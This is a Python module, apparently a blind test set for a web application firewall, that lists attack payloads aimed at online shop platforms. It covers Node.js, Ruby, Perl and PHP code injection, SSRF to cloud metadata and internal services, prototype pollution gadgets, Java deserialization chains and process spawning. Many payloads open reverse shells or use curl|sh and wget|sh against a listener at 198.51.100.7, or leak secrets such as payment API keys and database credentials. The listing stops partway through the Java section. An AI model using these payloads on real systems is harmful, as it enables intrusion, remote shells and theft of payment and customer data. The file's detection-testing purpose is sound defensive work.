"""Blind set "twohundredtenth": Node.js, SSRF, prototype pollution, Ruby, Perl and data: scheme injection, Java
(class names, process spawning, serialization, gadget chains, Log4Shell, expression languages, polymorphic JSON and
XML, class loading, JSP uploads) and server-side template injection, aimed at online shops, with benign requests
that carry the same words innocently.

The angle: e-commerce and payment platforms, recalled from memory. Each payload is written the way it is aimed at
a shop or a service around one: Magento/Adobe Commerce, WooCommerce and WordPress plugins, PrestaShop, OpenCart,
Shopware, Shopify and BigCommerce apps, headless storefronts (Next.js, Nuxt, PWA Studio), Java commerce suites (SAP
Commerce/Hybris, Apache OFBiz, Broadleaf, Shopizer, Oracle ATG on WebLogic), Ruby shops (Solidus, Spree), Perl CGI
carts, cart and checkout APIs, coupon and gift-card endpoints, product search and faceted filters, reviews and
Q&A, order tracking, invoice and label PDF generators, payment-provider callbacks and webhooks (IPN, 3-D Secure
returns), ERP and marketplace feed importers (CSV, XML) and the shop admin. Parameter names follow each platform
(coupon_code, searchCriteria, id_product, route, sw-context-token, notify_url, TermUrl, feed_url, ...). Every list
carries a comment naming its family, the platform and the target (interpreter, shell, cloud metadata service,
template engine, JVM, product).

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language (OGNL, SpEL, MVEL, JEXL, JSP EL), java-polymorphic-deserialization (XStream, XMLDecoder,
    Fastjson, Jackson), java-class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Parameter names on our routes are the
platform's own (coupon_code, feed_url, notify_url, sku, ...). Whole JSON documents (cart and webhook bodies,
Fastjson and Jackson typed objects) go as the JSON body; whole XML documents (XStream, XMLDecoder in a WebLogic
SOAP envelope, OFBiz XML-RPC) as the XML body; bracket and dotted `name=value` pairs (qs prototype pollution,
Spring4Shell class.module.classLoader, EJS view options) as raw query or form pairs; raw serialized Java bytes as
percent-encoded bytes in a query, form or raw body; Java Server Pages as uploads named *.jsp (the upload carries
a JSP command shell). Payloads with line breaks never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
shop platforms, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document
XB = ("xml", "rs-xml")   # a whole XML document
KV = ("query", "rs-raw-body")   # a raw `name=value` query string / form body
KF = ("form", "rs-query")   # a raw `name=value` pair in the admin form / a suite's query string
UP = ("multipart-filename", "rs-multipart-filename")   # an upload's file name
CT = ("header:Content-Type", "rs-header:Content-Type")   # Struts reads OGNL out of the Content-Type header
OAST = "198.51.100.7"   # the tester's listener (LDAP/RMI/HTTP/DNS callbacks, reverse shells)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ----------------------------------------------------------------------------------------------------------------
# A tiny Java serialization writer (java.io.ObjectOutputStream's grammar, no back-references: every class
# descriptor and string is written anew, which ObjectInputStream accepts). Used for the URLDNS chain and the
# opening objects of the gadget chains, as ysoserial writes them.
MAGIC = b"\xac\xed\x00\x05"


def _utf(s: str) -> bytes:
    return len(s).to_bytes(2, "big") + s.encode()


def _str(s: str) -> bytes:   # TC_STRING
    return b"t" + _utf(s)


def _desc(name: str, suid: int, flags: int, fields: tuple[tuple[str, str, str], ...] = (),
          sup: bytes = b"p") -> bytes:   # TC_CLASSDESC ... TC_ENDBLOCKDATA superclass
    out = b"r" + _utf(name) + suid.to_bytes(8, "big", signed=True) + bytes([flags]) + len(fields).to_bytes(2, "big")
    for code, fname, sig in fields:
        out += code.encode() + _utf(fname) + (_str(sig) if sig else b"")
    return out + b"x" + sup


def _urldns(host: str) -> bytes:
    """ysoserial's URLDNS: a HashMap whose key is a java.net.URL with hashCode -1 (a DNS lookup on readObject)."""
    url = _desc("java.net.URL", -7627629688361524110, 0x03,
                (("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", "Ljava/lang/String;"),
                 ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"),
                 ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;")))
    key = (b"s" + url + b"\xff\xff\xff\xff\xff\xff\xff\xff" + _str(host) + _str("") + _str(host) + _str("http")
           + b"p" + b"x")
    hashmap = _desc("java.util.HashMap", 362498820763181265, 0x03, (("F", "loadFactor", ""), ("I", "threshold", "")))
    return (MAGIC + b"s" + hashmap + b"?@\x00\x00\x00\x00\x00\x0c" + b"w\x08\x00\x00\x00\x10\x00\x00\x00\x01"
            + key + _str(host) + b"x")


def _invoker(method: str) -> bytes:
    """Commons Collections 3 InvokerTransformer (the opening of the CommonsCollections chains' transformer)."""
    return b"s" + _desc("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688, 0x02,
                        (("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                         ("[", "iParamTypes", "[Ljava/lang/Class;"))) + b"p" + _str(method)


def _chain_head(outer: str, suid: int, fields: tuple[tuple[str, str, str], ...]) -> bytes:
    return MAGIC + b"s" + _desc(outer, suid, 0x02, fields)


URLDNS = _urldns(f"ser.{OAST}.nip.io")
CC_HEAD = (_chain_head("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397,
                       (("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;")))
           + b"s}\x00\x00\x00\x01\x00\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy\xe1'\xda \xcc\x10C\xcb\x02"
           + b"\x00\x01L\x00\x01ht\x00%Ljava/lang/reflect/InvocationHandler;xp" + _invoker("exec"))
CC5_HEAD = (_chain_head("javax.management.BadAttributeValueExpException", -3105272988410493376,
                        (("L", "val", "Ljava/lang/Object;"),))
            + b"s" + _desc("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205, 0x02,
                           (("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;"))) + _str("foo")
            + _invoker("getMethod"))
GROOVY_HEAD = (_chain_head("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397,
                           (("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;")))
               + b"s" + _desc("org.codehaus.groovy.runtime.ConvertedClosure", -2507200574429738853, 0x02,
                              (("L", "methodName", "Ljava/lang/String;"),)) + _str("entrySet")
               + b"s" + _desc("org.codehaus.groovy.runtime.MethodClosure", 5981512373536488891, 0x02,
                              (("L", "method", "Ljava/lang/String;"),)) + _str("execute")
               + _str(f"curl http://{OAST}/groovy1"))
SPRING_HEAD = (_chain_head("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                           -2474102838283050005, (("I", "index", ""), ("L", "methodName", "Ljava/lang/String;"),
                                                   ("L", "provider", "Lorg/springframework/core/"
                                                    "SerializableTypeWrapper$TypeProvider;")))
               + b"\x00\x00\x00\x00" + _str("newTransformer")
               + b"s" + _desc("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvo"
                              "cationHandler", 2093948125427440108, 0x02,
                              (("L", "objectFactory", "Lorg/springframework/beans/factory/ObjectFactory;"),)))
JDK7U21_HEAD = (_chain_head("java.util.LinkedHashSet", -2851667679971038690, ())
                + b"w\x0c\x00\x00\x00\x10?@\x00\x00\x00\x00\x00\x02"
                + b"s" + _desc("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707, 0x03,
                               (("I", "_indentNumber", ""), ("I", "_transletIndex", ""),
                                ("[", "_bytecodes", "[[B"), ("[", "_class", "[Ljava/lang/Class;"),
                                ("L", "_name", "Ljava/lang/String;"),
                                ("L", "_outputProperties", "Ljava/util/Properties;"))))


def latin(data: bytes) -> str:
    """Raw bytes held as latin-1 text (sent percent-encoded byte for byte)."""
    return data.decode("latin-1")


def hexs(data: bytes) -> str:
    return data.hex()


def b64b(data: bytes) -> str:
    return base64.b64encode(data).decode()


def gz64(data: bytes) -> str:
    return base64.b64encode(gzip.compress(data, mtime=0)).decode()


# ================================================================================================================
# generic
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection. Target: the Node.js interpreter behind Shopify/BigCommerce apps (Express), headless storefronts
# (Next.js, Nuxt, PWA Studio UPWARD) and price-rule / shipping-formula engines that eval() a merchant's expression.
NODE: list[Entry] = [
    # Shopify app: the discount formula field ("price * 0.9") goes through eval() on the Express backend
    "require('child_process').execSync('cat /app/.env').toString()",
    "process.mainModule.require('child_process').execSync('id').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('uname -a').toString()",
    f"require('child_process').exec('curl -s http://{OAST}/s.sh|sh')",
    # breaking out of the quoted coupon code an eval'd rule builds: "code == '" + input + "'"
    f"';require('child_process').exec('nc {OAST} 4444 -e /bin/sh');//",
    "\"+require('child_process').execSync('whoami')+\"",
    # vm sandbox of a BigCommerce shipping-rate script: climb out through the constructor chain
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "[].constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"env\")')()",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('id')",
    "new Function('return process.env.SHOPIFY_API_SECRET')()",
    # Next.js checkout route that evals a sort expression from ?sort=
    "eval(Buffer.from('" + b64('require("child_process").execSync("id")') + "','base64').toString())",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,"
    "39,41,46,101,120,101,99,83,121,110,99,40,39,105,100,39,41))",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "import('child_process').then(m=>m.execSync('cat /var/www/storefront/.env.local'))",
    f"setTimeout(()=>require('child_process').exec('wget -qO- http://{OAST}/x|sh'),0)",
    # Express reflecting an eval'd order-lookup expression straight into the response
    "res.end(require('fs').readdirSync('/app').toString())",
    "require('child_process').execFileSync('/bin/cat',['/etc/shadow']).toString()",
    f"require('http').get('http://{OAST}/?k='+process.env.STRIPE_SECRET_KEY)",
    # node-serialize cart cookie: the immediately-invoked function runs on unserialize()
    "{\"cart\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    f"_$$ND_FUNC$$_function(){{require('child_process').exec('curl {OAST}/ns')}}()",
    # template literal built with new Function("return `...`") in an order confirmation mailer
    "${require('child_process').execSync('id')}",
]

# nodejs-dos. Target: the single Node.js event loop of a storefront API (product search that compiles the query
# into a RegExp, coupon/SKU validators, qs and JSON parsers, expressions that are eval'd).
NODE_DOS: list[Entry] = [
    # product search compiles ?q= into new RegExp(q) against every title: catastrophic backtracking
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(x+x+)+y",
    "(.*a){25}",
    "(\\w+\\s?)+$",
    "([a-zA-Z0-9]+)*@",
    # MongoDB-backed catalog: the same evil pattern through the $regex operator
    "{\"name\":{\"$regex\":\"^(a+)+$\"}}",
    "{\"sku\":{\"$regex\":\"(.*){1,32000}[bc]\"}}",
    # the email validator on checkout (/^([a-zA-Z0-9_\.\-])+\@(([a-zA-Z0-9\-])+\.)+([a-zA-Z0-9]{2,4})+$/)
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.",
    # eval'd price rule: block the loop forever or exhaust the heap
    "while(true){}",
    "for(;;){}",
    "(function f(){process.nextTick(f)})()",
    "new Array(1e9).fill(0)",
    "Buffer.alloc(2**31-1)",
    "'x'.repeat(2**29)",
    "this.constructor.constructor('while(1){}')()",
    "JSON.parse('['.repeat(100000))",
    "process.exit(1)",
    # qs parser of the cart API: an array index that allocates a huge sparse array
    ("items[999999999]=1", *KV),
    ("qty[][][][][][][][][][][][][][][][][][][][][][][][]=1", *KF),
]

# ssrf-cloud-metadata. Target: the cloud instance metadata service (AWS IMDS, GCP, Azure, Alibaba, DigitalOcean)
# reached through a shop's server-side fetch: the product image URL importer, the feed importer, webhook/IPN
# notify_url, the 3-D Secure TermUrl, and HTML rendered to PDF for invoices and labels.
METADATA: list[Entry] = [
    # Magento/WooCommerce product image import from a URL (the importer fetches and stores the "image")
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-ec2-role",
    "http://169.254.169.254/latest/user-data",
    "http://instance-data/latest/meta-data/",
    # IPv6 and encoded forms of the same service (importer's host blocklist only knows the dotted quad)
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/",
    "http://shop.example.com@169.254.169.254/latest/meta-data/",
    # GCP (the v1beta1 path answered without the Metadata-Flavor header)
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
    # Azure IMDS and managed identity
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    # Alibaba Cloud and DigitalOcean
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    # WooCommerce PDF invoice (HTML rendered by wkhtmltopdf / dompdf): the order note carries the fetch
    "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"900\"></iframe>",
    "<img src=\"http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token\">",
    # IMDSv2 token request forged through gopher (PUT with the TTL header)
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    # 3-D Secure return: the ACS posts back to TermUrl, which the gateway plugin fetches server-side
    ("{\"TermUrl\":\"http://169.254.169.254/latest/meta-data/\",\"MD\":\"100000123\",\"PaRes\":\"eJzVWF\"}", *JB),
    ("{\"topic\":\"orders/create\",\"address\":\"http://169.254.169.254/latest/user-data\",\"format\":\"json\"}",
     *JB),
]

# ssrf-internal-ip. Target: services on the shop's own host and network (Elasticsearch/OpenSearch of Magento's
# catalog search, Redis sessions and cache, RabbitMQ, Varnish, Docker and Consul APIs, admin panels) and local
# files, through feed importers, webhook tests and image fetchers: loopback in decimal, octal, hex and short
# forms, localhost aliases, file://, gopher:// and dict://.
INTERNAL: list[Entry] = [
    # Magento 2.4 catalog search: Elasticsearch on the loopback
    "http://127.0.0.1:9200/_cat/indices?v",
    "http://localhost:9200/magento2_product_1/_search?size=1000",
    "http://2130706433:9200/_nodes",
    "http://0x7f000001:9200/_cluster/health",
    "http://017700000001/admin",
    "http://127.1:6081/",
    "http://0/",
    "http://0.0.0.0:15672/api/users",
    "http://[::1]:15672/api/queues",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:2375/containers/json",
    "http://localhost.localdomain/phpmyadmin/",
    "http://127.0.0.1.nip.io:8500/v1/kv/?recurse",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    # local files through the same URL fetchers: the platform's own secrets
    "file:///var/www/html/app/etc/env.php",
    "file:///var/www/html/wp-config.php",
    "file:///var/www/prestashop/app/config/parameters.php",
    "file:///proc/self/environ",
    # gopher: raw protocol to Redis (Magento cache and sessions): flush and write a PHP file
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A"
    "%2429%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%0A%0A%0D%0A",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html/pub/media%0D%0ACONFIG%20SET%20dbfilename%20x.php"
    "%0D%0ASAVE%0D%0A",
    # dict: one-line commands to Redis
    "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/",
    "dict://127.0.0.1:6379/info",
    # Java's netdoc: scheme in a Java feed fetcher
    "netdoc:///etc/passwd",
    # Shopify webhook destination registered through the app's settings API
    ("{\"webhook\":{\"topic\":\"orders/paid\",\"address\":\"http://127.0.0.1:6379/\",\"format\":\"json\"}}", *JB),
    # PayPal IPN listener told to verify against an internal host
    ("notify_url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin%2F&txn_id=5XJ12345AB678901C&payment_status=Completed", *KV),
]

# javascript-prototype-pollution. Target: Node.js storefront and app backends (qs bracket parsing, lodash merge /
# defaultsDeep of the cart, deep-extend of a Shopify app's settings) where Object.prototype picks up an attacker's
# property (admin flags, prices, child_process and template-engine gadgets), and the browser of a jQuery or
# BigCommerce Stencil storefront that deep-merges the query string (client-side gadgets).
PROTO: list[Entry] = [
    # Express + qs on the cart API: bracket keys write into Object.prototype
    ("__proto__[isAdmin]=true", *KV),
    ("constructor[prototype][isAdmin]=1", *KV),
    ("cart[__proto__][price]=0.01", *KF),
    ("__proto__[discount_percent]=100", *KV),
    ("coupon[constructor][prototype][free_shipping]=1", *KF),
    # dotted-path setters (set-value, dot-prop) in a headless checkout's address form
    ("__proto__.isAdmin=true", *KV),
    # child_process gadget: every later spawn() inherits a shell and NODE_OPTIONS from the prototype
    ("__proto__[shell]=node&__proto__[NODE_OPTIONS]=--require%20/proc/self/environ"
     "&__proto__[env][EVIL]=console.log(require(%22child_process%22).execSync(%22id%22).toString())//", *KV),
    ("__proto__[argv0]=console.log(require(%27child_process%27).execSync(%27id%27).toString())//"
     "&__proto__[shell]=/proc/self/exe", *KF),
    # EJS gadget on the order-confirmation page: outputFunctionName is pasted into the compiled function
    ("__proto__[outputFunctionName]=x;process.mainModule.require(%27child_process%27).execSync(%27id%27);s", *KV),
    ("__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;%20process.mainModule.require("
     "%27child_process%27).exec(%27id%27)", *KF),
    # Pug gadget: an AST node injected through the prototype compiles into the template function
    ("__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require(%27child_process%27)"
     ".execSync(%27id%27)", *KV),
    # lodash.template gadget: sourceURL lands inside the generated function
    ("__proto__[sourceURL]=%0areturn%20e=>{return%20global.process.mainModule.constructor._load("
     "%27child_process%27).execSync(%27id%27)}", *KF),
    # client-side gadgets on a jQuery / Stencil storefront (the page deep-merges location.search)
    ("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", *KV),
    ("__proto__[transport_url]=data:,alert(document.cookie)//", *KF),
    # JSON bodies merged with lodash.merge into the cart or the app's settings
    ("{\"__proto__\":{\"isAdmin\":true}}", *JB),
    ("{\"cart\":{\"items\":[{\"sku\":\"TSHIRT-BLK-M\",\"qty\":1}],\"__proto__\":{\"price\":0.01}}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true,\"role\":\"owner\"}}}", *JB),
    ("{\"billing_address\":{\"__proto__\":{\"country_id\":\"US\",\"is_admin\":1}}}", *JB),
    ("{\"settings\":{\"__proto__\":{\"status\":510}}}", *JB),
    ("{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--inspect=198.51.100.7:9229\"}}", *JB),
    ("{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}", *JB),
    ("{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').exec('id');s\"}}", *JB),
]

# ruby-injection. Target: the Ruby interpreter of Solidus/Spree stores and Rails Shopify apps: eval/instance_eval
# of a promotion rule, Kernel#open on a feed URL (a leading pipe runs a command), send/constantize on a sort
# parameter, ERB rendered from a merchant's text, YAML.load of an imported product file.
RUBY: list[Entry] = [
    # Spree promotion calculator evaluates the merchant's formula with eval
    "system('id')",
    "`cat /etc/passwd`",
    "%x(curl http://198.51.100.7/$(whoami))",
    "IO.popen('id').read",
    "require 'open3'; Open3.capture2('cat config/master.key')",
    "eval(\"system('uname -a')\")",
    "instance_eval(\"`id`\")",
    "Object.const_get('Kernel').send(:system, 'id')",
    "send(:eval, 'File.read(\"/proc/self/environ\")')",
    "Rails.application.secrets.secret_key_base",
    "Rails.application.credentials.stripe[:secret_key]",
    # string interpolation inside a double-quoted string that is instance_eval'd
    "#{`id`}",
    # Kernel#open on the product feed URL: a leading pipe spawns a shell
    "|id",
    "|curl -s http://198.51.100.7/x.sh | sh",
    "open('|whoami').read",
    # constantize on ?sort= or ?calculator_type=, Logger.new('|cmd') opens a pipe
    "Logger.new('|touch /tmp/pwned')",
    "File.read('/etc/passwd')",
    "ERB.new(\"<%= `id` %>\").result",
    # YAML.load of an imported product file (Psych object tags instantiate arbitrary classes)
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
    "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
    "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n"
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n"
    "  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n"
    "               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
    "           git_set: id\n       method_id: :resolve\n",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
    "? ! \"foo; system('id'); @foo\"\n: !ruby/struct\n  defaults:\n    :action: create\n",
]

# perl-injection. Target: the Perl interpreter of CGI shopping carts (cart.cgi, shop.pl, Interchange catalogs):
# two-argument open() on a template or product file name, eval of an order-total expression, backticks in
# mail-out, the /e regex modifier.
PERL: list[Entry] = [
    # shop.pl?page= is opened with two-argument open(): a trailing or leading pipe runs a command
    "|cat /etc/passwd|",
    "id|",
    "../../../../bin/cat /etc/passwd|",
    "|mail attacker@example.org < /home/shop/orders.db|",
    # order total computed with eval($expr)
    ";system('id');",
    "system(\"cat /etc/shadow\")",
    "exec('/bin/sh -i')",
    "`id`",
    "qx{id}",
    "qx/cat \\/etc\\/passwd/",
    "eval{system('uname -a')}",
    "open(F,'|mail attacker\\@example.org < /etc/passwd')",
    "do '/tmp/x.pl'",
    "require '/tmp/evil.pm'",
    # interpolation: the product name lands in a string that is eval'd
    "@{[system 'id']}",
    "${\\`id`}",
    "@{[`cat /etc/passwd`]}",
    # the /e modifier of a price-formatting substitution
    "s/.*/system('id')/e",
    "use Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
]

# php-data-scheme. Target: the PHP interpreter of WooCommerce/WordPress plugins, PrestaShop modules, OpenCart
# extensions and Magento 1 where a template, language or "view" parameter reaches include() or
# file_get_contents() and allow_url_include lets the data: stream wrapper supply the code.
PHP_DATA: list[Entry] = [
    # WooCommerce plugin ?template= included
    "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain;base64," + b64("<?php include('wp-config.php');echo DB_PASSWORD;?>"),
    # Magento 1: the env/local.xml read back through the included stream
    "data://text/plain;base64," + b64("<?php echo file_get_contents('app/etc/env.php'); ?>"),
    # PrestaShop module ?controller= / ?tpl=
    "data://text/plain;base64," + b64("<?php echo shell_exec(\"cat config/settings.inc.php\"); ?>"),
    "data://application/x-httpd-php;base64," + b64("<?php passthru($_REQUEST['cmd']);"),
    "data:;base64," + b64("<?php system('id');?>"),
    "DATA://text/plain;base64," + b64("<?php shell_exec($_GET['c']); ?>"),
    # OpenCart ?route= with a language file included from the data wrapper
    "data://text/plain;charset=utf-8,<?= `id` ?>",
    "data://text/plain,<?php file_put_contents('image/catalog/x.php','<?php eval($_POST[1]);');?>",
    "data://text/plain;base64," + b64("<?php file_put_contents('media/catalog/product/x.php',"
                                      "base64_decode($_POST['d']));?>"),
    "php://filter/convert.base64-decode/resource=data://plain/text," + b64("<?php system('id');?>"),
    "data://text/plain,<?php echo base64_encode(file_get_contents('/etc/passwd')); ?>",
    "data://image/png;base64," + b64("<?php eval(base64_decode($_COOKIE['p'])); ?>"),
    "data:text/plain,<?php fsockopen('198.51.100.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');?>",
    ("page=data://text/plain;base64," + b64("<?php system($_GET['x']); ?>") + "&x=id", *KV),
]


# ================================================================================================================
# java
# ----------------------------------------------------------------------------------------------------------------
# java-class-names. Target: the JVM of Java commerce suites (SAP Commerce/Hybris ImpEx and scripting console,
# Apache OFBiz, Broadleaf, Shopizer, Oracle ATG) where a field reaches a script engine or reflection: the
# dangerous classes named outright (Runtime, ProcessBuilder, ClassLoader, ScriptEngineManager, System, reflection).
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"curl http://198.51.100.7/hybris\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "java.lang.Class.forName(\"java.lang.ProcessBuilder\").getConstructor(String[].class)"
    ".newInstance(new Object[]{new String[]{\"id\"}})",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\")"
    ".eval(\"new java.lang.ProcessBuilder('id').start()\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"groovy\").eval(\"'id'.execute().text\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "java.lang.System.getenv(\"HYBRIS_DB_PASSWORD\")",
    "new java.io.FileInputStream(\"/opt/hybris/config/local.properties\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),\"id\")",
    "new javax.naming.InitialContext().lookup(\"ldap://198.51.100.7:1389/Shop\")",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    # Hybris ImpEx with code execution enabled: a bean-shell line in the product import
    "INSERT_UPDATE Product;code[unique=true];name[lang=en]\n"
    "\"#% java.lang.Runtime.getRuntime().exec(\"\"touch /tmp/impex\"\");\";\n",
    "\"#%groovy% new java.lang.ProcessBuilder('id').start()\";",
]

# java-process-spawn. Target: the JVM's process APIs reached through Groovy (OFBiz ProgramExport, the Hybris
# console, Jenkins-style shop build scripts), BeanShell and script fields: Runtime.exec and ProcessBuilder starts.
JAVA_SPAWN: list[Entry] = [
    "new ProcessBuilder(\"bash\",\"-c\",\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\").start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"wget -O /tmp/x http://198.51.100.7/x;sh /tmp/x\"})",
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "new java.lang.ProcessBuilder(new String[]{\"cat\",\"/opt/hybris/config/local.properties\"})"
    ".redirectErrorStream(true).start()",
    "new ProcessBuilder(\"powershell\",\"-enc\","
    "\"SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcAKQA=\").start()",
    # Groovy: String.execute() and list.execute()
    "\"id\".execute().text",
    "['sh','-c','cat /etc/passwd'].execute().text",
    "'curl http://198.51.100.7/ofbiz'.execute()",
    "def p = 'uname -a'.execute(); p.waitFor(); println p.in.text",
    # OFBiz /webtools/control/ProgramExport: groovyProgram runs as Groovy
    ("groovyProgram=throw%20new%20Exception(%27id%27.execute().text);", *KV),
